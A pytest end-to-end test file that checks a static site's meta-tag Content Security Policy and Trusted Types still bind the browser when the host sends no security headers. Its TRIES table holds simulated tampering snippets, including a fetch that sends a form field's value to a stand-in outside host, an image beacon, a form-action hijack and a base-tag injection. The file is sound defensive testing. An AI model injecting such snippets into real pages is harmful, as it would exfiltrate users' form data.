"""A host that sends no headers of ours (GitHub Pages): what the pages say themselves binds the browser all the same."""

from __future__ import annotations

from collections.abc import Iterator
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread

import pytest
from playwright.sync_api import Page

from tests.e2e.form import Home
from tests.e2e.watch import Watch

pytestmark = pytest.mark.service_worker


class Plain(SimpleHTTPRequestHandler):
    """Python's own server, quiet."""

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def address(dist: Path) -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(Plain, directory=str(dist)))
    Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}/"
    server.shutdown()
    server.server_close()


# What a page that was tampered with might try -> the directive that forbids it.
AWAY = "https://elsewhere.example/"
TRIES = {
    f"fetch('{AWAY}?' + document.querySelector('#sender').value).catch(() => {{}})": "connect-src",
    f"document.body.append(Object.assign(new Image(), {{ src: '{AWAY}' }}))": "img-src",
    "Object.assign(document.querySelector('form'), { method: 'post', action: '/' }).submit()": "form-action",
    f"document.head.append(Object.assign(document.createElement('base'), {{ href: '{AWAY}' }}))": "base-uri",
    "document.body.setAttribute('style', 'color: red')": "style-src-attr",
}
SINKS = ("document.body.innerHTML = '<b>x</b>'", "new Worker('/sw.js')", "document.createElement('script').text = '0'")


def violated(page: Page, attempt: str) -> str:
    """The directive that an attempt breaks."""
    script = f"""() => new Promise((resolve) => {{
      addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective), {{ once: true }});
      {attempt};
    }})"""
    found: str = page.evaluate(script)
    return found


def test_the_policy_binds(home: Home, watch: Watch) -> None:
    watch.expect("CSP", "Content Security Policy", "elsewhere.example", "Trusted", "Failed to load resource")
    home.open("en")

    response = home.page.request.get(home.address + "en/")
    assert not {"content-security-policy", "referrer-policy"} & set(response.headers)
    for attempt, directive in TRIES.items():
        assert violated(home.page, attempt) == directive, attempt
    for sink in SINKS:
        name = home.page.evaluate(f"() => {{ try {{ {sink}; return ''; }} catch (error) {{ return error.message; }} }}")
        assert "Trusted" in name, sink
    name = home.page.evaluate("() => { try { trustedTypes.createPolicy('other', {}); } catch (e) { return e.name; } }")
    assert name == "TypeError"


def test_no_page_comes_without_it(dist: Path) -> None:
    for page in dist.rglob("*.html"):
        text = page.read_text("utf-8")
        policy = text.index('http-equiv="Content-Security-Policy"')
        assert policy < min(text.index("<link"), text.find("<script") % len(text)), page
        assert '<meta name="referrer" content="no-referrer">' in text, page


def test_the_form_answers(home: Home) -> None:
    home.ask("en", sender="36180").expect(verdict="stop", action="reply_sms")
